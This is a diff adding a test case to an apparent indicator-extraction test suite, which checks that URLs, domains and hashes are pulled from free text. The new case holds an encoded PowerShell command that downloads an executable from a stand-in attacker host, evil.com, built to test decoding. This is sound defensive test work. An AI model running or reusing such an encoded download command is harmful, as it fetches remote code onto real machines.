@@ -47,6 +47,10 @@ describe('free text: found', () => {
     [`New md5sum is : '${MD5}'`, [`md5 ${MD5}`]],
     ['Host: shop.evil.id\\r\\nUser-Agent: x', ['domain shop.evil.id']],
     ['&quot;http://evil.com/a?x=1&amp;y=2&quot;', ['url http://evil.com/a?x=1&y=2', 'domain evil.com']],
+    [
+      `powershell -NoP -enc ${Buffer.from('iwr http://evil.com/a.exe', 'utf16le').toString('base64')}`,
+      ['url http://evil.com/a.exe', 'domain evil.com'],
+    ],
     ['besucht bücher.de heute', ['domain xn--bcher-kva.de']],
   ])('%s', (text, expected) => expect(search(text)).toEqual(expected))
 })
